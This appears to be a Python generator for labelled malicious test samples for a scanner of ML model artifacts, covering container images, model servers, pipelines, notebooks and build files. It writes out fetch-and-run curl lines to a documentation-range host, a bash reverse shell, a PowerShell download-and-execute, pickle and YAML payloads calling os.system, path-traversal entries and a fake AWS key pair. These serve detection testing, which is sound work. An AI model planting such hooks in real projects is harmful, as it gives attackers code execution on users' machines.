"""What surrounds a model: images, model repositories, packages, build files, pipelines, and code in other languages."""
import json
import struct

from assembly import Call, Name, dump
from samples import gzipped, tarred, torch_zip, zipped

EVIL = dump(Call(Name("posix", "system"), "echo assay"))
PLAIN = dump({"weight": [1.0, 2.0]})
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 64, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(120)
DIGEST = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
FETCH = "curl -s http://198.51.100.7/a | sh"


def image(layer, compressed=False):
    """An image in the layout of the Open Container Initiative."""
    data = gzipped(layer) if compressed else layer
    kind = "application/vnd.oci.image.layer.v1.tar" + ("+gzip" if compressed else "")
    manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": {"digest": "sha256:" + DIGEST, "size": 2}, "layers": [{"mediaType": kind, "digest": "sha256:" + DIGEST, "size": len(data)}]}).encode()
    return [("oci-layout", b'{"imageLayoutVersion":"1.0.0"}'), ("index.json", json.dumps({"schemaVersion": 2, "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": "sha256:" + DIGEST, "size": len(manifest)}]}).encode()),
            ("blobs/sha256/" + DIGEST, data), ("blobs/sha256/" + DIGEST[::-1], manifest)]


def saved(layer):
    """What `docker save` writes."""
    return [("manifest.json", json.dumps([{"Config": "c.json", "RepoTags": ["m:1"], "Layers": ["a/layer.tar"]}]).encode()), ("repositories", b"{}"), ("c.json", b'{"config":{}}'), ("a/VERSION", b"1.0"), ("a/json", b"{}"), ("a/layer.tar", layer)]


def images(samples):
    def add(name, data, technique, severity="critical"):
        samples.attack("images/" + name, data, technique, severity)

    inside = tarred([("app/model.pt", torch_zip(EVIL))])
    add("layout.tar", tarred(image(inside)), "torch zip in a layer of an image layout")
    add("layout_gzip.tar", tarred(image(inside, True)), "torch zip in a gzipped layer")
    add("layout.tar.gz", gzipped(tarred(image(inside, True))), "gzipped image layout")
    add("saved.tar", tarred(saved(inside)), "torch zip in an image of docker save")
    add("saved_escape.tar", tarred(saved(tarred([("../../etc/cron.d/x", b"x")]))), "layer whose member leaves", "high")
    add("layer.tar.gz", gzipped(inside), "a layer alone")
    try:
        import zstandard
        add("layout_zstd.tar", tarred([("oci-layout", b'{"imageLayoutVersion":"1.0.0"}'), ("blobs/sha256/" + DIGEST, zstandard.compress(inside))]), "zstd layer")
    except ImportError:
        pass
    for name, data in image(inside, True):
        samples.write("malicious/images/folder/" + name, data)
    samples.rows.append({"path": "malicious/images/folder/blobs/sha256/" + DIGEST, "label": "malicious", "technique": "layer in an unpacked image layout", "expected_min_severity": "critical", "format": "images"})
    add("modelkit.tar", tarred(image(tarred([("model/weights.pkl", EVIL), ("Kitfile", b"manifestVersion: 1.0\nmodel:\n  path: ../../etc\n")]))), "pickle in a ModelKit")
    add("sif.sif", b"#!/usr/bin/env run-singularity\n\0SIF_MAGIC\0" + bytes(500), "Singularity image", "medium")


def servers(samples):
    def add(path, data, technique, severity):
        samples.attack("servers/" + path, data, technique, severity)

    shell = f"import os\n\n\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('{FETCH}')\n\n    def execute(self, requests):\n        return []\n"
    add("triton/model/1/model.py", shell, "Triton model in Python that runs a command", "high")
    add("triton/model/config.pbtxt", 'name: "m"\nbackend: "python"\nparameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "http://198.51.100.7/env.tar.gz" } }\n', "Triton environment from an address", "medium")
    add("triton/backend/config.pbtxt", 'name: "m"\nbackend: "../../../../tmp/evil"\nmax_batch_size: 1\n', "Triton backend outside of the folder", "medium")
    add("triton/file/config.pbtxt", 'name: "m"\nplatform: "onnxruntime_onnx"\ndefault_model_filename: "../../../../tmp/evil.onnx"\n', "Triton model file outside of the folder", "medium")
    add("triton/library/config.pbtxt", 'name: "m"\nplatform: "custom"\ndefault_model_filename: "libevil.so"\n', "Triton custom library", "medium")
    add("triton/ops/config.pbtxt", 'name: "m"\nbackend: "tensorflow"\nmodel_operations: { op_library_filename: [ "/tmp/libevil.so" ] }\n', "Triton library of operators", "medium")
    add("triton/native/1/libtriton_evil.so", ELF, "Triton backend library", "medium")
    add("mlflow/MLmodel", "flavors:\n  python_function:\n    loader_module: os\n    python_version: 3.11\n    data: model.pkl\n", "MLflow loader module that is none", "medium")
    add("mlflow2/MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: ../../../tmp/evil.pkl\n    env: conda.yaml\n", "MLflow model outside of the folder", "low")
    add("mlflow3/conda.yaml", "dependencies:\n- python=3.11\n- pip:\n  - --index-url http://198.51.100.7/simple\n  - evil\n", "conda environment from another index", "medium")
    add("mlflow4/python_model.pkl", EVIL, "MLflow model", "critical")
    add("mlflow5/code/helper.py", f"import subprocess\nsubprocess.run('{FETCH}', shell=True)\n", "MLflow code path that runs a command", "high")
    add("bentoml/bento.yaml", "service: service:svc\npython:\n  index_url: http://198.51.100.7/simple\n  packages: [evil]\n", "BentoML packages from another index", "low")
    add("bentoml2/service.py", f"import bentoml, os\nos.system('{FETCH}')\n", "BentoML service that runs a command", "high")
    add("cog/cog.yaml", f"build:\n  python_version: '3.11'\n  run:\n    - {FETCH}\npredict: predict.py:Predictor\n", "Cog build that runs a download", "medium")
    add("cog2/predict.py", f"from cog import BasePredictor\nimport os\n\n\nclass Predictor(BasePredictor):\n    def setup(self):\n        os.popen('{FETCH}')\n\n    def predict(self, x: str) -> str:\n        return x\n", "Cog predictor that runs a command", "high")
    add("docker/Dockerfile", f"FROM python:3.11\nRUN {FETCH}\nCMD python app.py\n", "Dockerfile that runs a download", "medium")
    add("docker2/Dockerfile", "FROM python:3.11\nRUN echo aW1wb3J0IG9z | base64 -d | python3\n", "Dockerfile that runs encoded code", "medium")
    add("docker3/Dockerfile", "FROM python:3.11\nADD http://198.51.100.7/payload /usr/bin/payload\nRUN chmod +x /usr/bin/payload && /usr/bin/payload\n", "Dockerfile that runs what it adds from an address", "medium")
    add("docker4/Dockerfile", "FROM python:3.11\nENV AWS_SECRET_ACCESS_KEY=kF9x2LmQ8vRt5YwZ3nBc7JdHs1GpXa4UeKoT6iNq\nENV AWS_ACCESS_KEY_ID=AKIA2E0A8F3B244C9986\n", "Dockerfile with a key pair", "medium")
    add("docker5/docker-compose.yml", "services:\n  m:\n    image: x\n    privileged: true\n    volumes: [/:/host]\n    command: sh -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n", "compose file with a reverse shell", "medium")
    add("ollama/Modelfile", "FROM llama3\nTEMPLATE \"\"\"{{ .System }}\"\"\"\nADAPTER /etc/passwd\n", "Ollama adapter at an absolute path", "medium")
    add("ollama2/Modelfile", "FROM http://198.51.100.7/model.gguf\n", "Ollama model from an unprotected address", "medium")
    add("sagemaker.tar.gz", gzipped(tarred([("model.pth", torch_zip(PLAIN)), ("code/inference.py", f"import os\nos.system('{FETCH}')\n".encode())])), "SageMaker code that runs a command", "high")
    add("sagemaker2.tar.gz", gzipped(tarred([("model.pth", torch_zip(PLAIN)), ("code/requirements.txt", b"--extra-index-url http://198.51.100.7/simple\nevil\n")])), "SageMaker packages from another index", "medium")
    add("vertex/predictor.py", "import pickle, urllib.request\nmodel = pickle.load(urllib.request.urlopen('http://198.51.100.7/m.pkl'))\n", "predictor that unpickles a download", "high")
    add("kserve/model-settings.json", json.dumps({"name": "m", "implementation": "os.system", "parameters": {"uri": "../../../etc/passwd"}}), "MLServer implementation that is a function", "medium")
    add("torchserve/model-config.yaml", "handler:\n  _target_: os.system\n", "TorchServe configuration with a callable", "critical")
    add("torchserve3.mar", zipped([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"../../../usr/lib/evil.py","serializedFile":"m.pt","modelName":"m"}}'), ("m.pt", torch_zip(PLAIN))]), "TorchServe handler outside of the archive", "high")
    add("torchserve4.mar", zipped([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"handler:f","serializedFile":"m.pt","modelName":"m","requirementsFile":"requirements.txt"}}'), ("handler.py", f"import os\n\n\ndef f(data, context):\n    os.system('{FETCH}')\n".encode()), ("requirements.txt", b"git+http://198.51.100.7/x.git\n"), ("m.pt", torch_zip(PLAIN))]), "TorchServe handler function that runs a command", "medium")
    add("torchserve5.mar", gzipped(tarred([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"h.py","serializedFile":"m.pt"}}'), ("h.py", b"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"), ("m.pt", torch_zip(EVIL))])), "TorchServe archive as tar.gz", "critical")


def pipelines(samples):
    def add(path, data, technique, severity):
        samples.attack("pipelines/" + path, data, technique, severity)

    add("dvc/dvc.yaml", f"stages:\n  train:\n    cmd: {FETCH}\n", "DVC stage that runs a download", "medium")
    add("mlproject/MLproject", f"name: m\nentry_points:\n  main:\n    command: \"{FETCH}\"\n", "MLproject command that runs a download", "medium")
    add("actions/.github/workflows/train.yml", f"on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {FETCH}\n", "workflow that runs a download", "medium")
    add("make/Makefile", f"train:\n\t{FETCH}\n", "Makefile that runs a download", "low")
    add("package/package.json", json.dumps({"name": "m", "scripts": {"postinstall": FETCH}}), "npm script that runs a download", "medium")
    add("pyproject/pyproject.toml", "[build-system]\nrequires = ['evil @ http://198.51.100.7/evil.tar.gz']\nbuild-backend = 'evil'\n", "build system from an unprotected address", "low")
    add("setup/setup.cfg", "[options]\ninstall_requires =\n  evil @ http://198.51.100.7/evil.tar.gz\n", "requirement from an unprotected address", "low")
    add("conda/environment.yml", "channels: [http://198.51.100.7/channel]\ndependencies: [evil]\n", "conda channel at an unprotected address", "low")
    add("pipfile/Pipfile", "[[source]]\nurl = 'http://198.51.100.7/simple'\nverify_ssl = false\nname = 'x'\n", "Pipfile from another index", "low")
    add("kubeflow/pipeline.yaml", f"deploymentSpec:\n  executors:\n    e:\n      container:\n        command: [sh, -c, '{FETCH}']\n", "Kubeflow command that runs a download", "medium")
    add("langchain/prompt.json", json.dumps({"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": "id"}}), "LangChain object from os", "high")
    add("langchain2/prompt.yaml", "_type: prompt\ntemplate_format: jinja2\ntemplate: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\n", "LangChain prompt with a template that escapes", "high")
    add("langflow/flow.json", json.dumps({"data": {"nodes": [{"data": {"node": {"template": {"code": {"value": f"import os\nos.system('{FETCH}')\n"}}}}}]}}), "Langflow node with code", "low")
    add("jsonpickle/state.json", json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}), "jsonpickle reduction", "critical")
    add("jsonpickle2/state.json", json.dumps({"py/object": "subprocess.Popen", "args": ["id"]}), "jsonpickle object", "high")
    add("comfy/workflow.json", json.dumps({"1": {"class_type": "CheckpointLoaderSimple", "inputs": {"ckpt_name": "../../../../etc/passwd"}}}), "ComfyUI workflow outside of the folder", "low")
    add("accelerate/accelerate.yaml", "compute_environment: LOCAL_MACHINE\nmain_training_function: !!python/name:os.system ''\n", "YAML name", "high")
    add("ray/trainer.pkl", EVIL, "Ray trainer", "critical")
    add("spacy/config.cfg", "[nlp]\nlang = \"en\"\n[nlp.before_creation]\n@callbacks = \"os.system\"\n[initialize]\n[paths]\nvectors = \"/etc/passwd\"\n", "spaCy callback that is a function", "low")
    add("spacy2/model/ner/model", b"\x81\xa5state\xc4" + bytes([len(EVIL)]) + EVIL, "pickle in a spaCy component", "medium")
    add("fasttext/model.bin", struct.pack("<ii", 793712314, 12) + bytes(200) + EVIL, "pickle behind a fastText header", "medium")
    add("gensim/model.model", dump({"wv": Call(Name("gensim.utils", "unpickle"), "/tmp/x.pkl")}), "gensim unpickles a path", "medium")
    add("espnet/config.yaml", "token_list: !!python/object/apply:subprocess.check_output [[id]]\n", "ESPnet configuration with a tag", "critical")
    add("speechbrain/hyperparams.yaml", "model: !new:os.system\n  command: id\nother: !apply:subprocess.run\n  args: [id]\n", "HyperPyYAML constructors", "high")
    add("speechbrain2/hyperparams.yaml", "x: !name:os.system\n", "HyperPyYAML name", "medium")
    add("ludwig/model_hyperparameters.json", json.dumps({"input_features": [{"preprocessing": {"tokenizer": "hf_tokenizer", "pretrained_model_name_or_path": "../../x"}}]}), "tokenizer outside of the folder", "low")
    add("fairseq/config.yaml", "common:\n  user_dir: /tmp/evil_plugins\ntask:\n  _name: x\n  _target_: builtins.exec\n", "fairseq target", "critical")
    add("detectron/config.yaml", "MODEL:\n  WEIGHTS: \"http://198.51.100.7/model.pkl\"\n_BASE_: \"../../../etc/passwd\"\n", "base configuration outside of the folder", "low")
    add("mmdet/config.py", f"import os\nos.system('{FETCH}')\nmodel = dict(type='X')\n", "mmengine configuration in Python", "high")
    add("lua/model.lua", "os.execute('curl http://198.51.100.7/a | sh')\n", "Lua script among the files", "low")
    add("julia/model.jl", "run(`sh -c 'curl http://198.51.100.7/a | sh'`)\n", "Julia script among the files", "low")
    add("shell/install.sh", f"#!/bin/bash\n{FETCH}\n", "install script that runs a download", "low")
    add("shell2.tar.gz", gzipped(tarred([("install.sh", f"#!/bin/bash\n{FETCH}\n".encode())])), "install script in an archive", "medium")
    add("nuget/model.nupkg", zipped([("tools/install.ps1", b"iex (iwr http://198.51.100.7/a)\n"), ("x.nuspec", b"<package/>")]), "PowerShell install script in a package", "low")
    add("unity/model.sentis", b"\x1c\0\0\0" + bytes(60) + EVIL, "pickle in a Sentis model", "medium")
    add("notebooks/a.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": ["!" + FETCH]}]}), "notebook that runs a download in a shell", "medium")
    add("notebooks/b.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": ["%%bash\n", FETCH]}]}), "notebook with a shell cell", "medium")
    add("notebooks/d.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": ["exec(__import__('base64').b64decode('cHJpbnQoMSk='))"]}]}), "notebook that runs encoded code", "high")


def build(samples):
    images(samples)
    servers(samples)
    pipelines(samples)
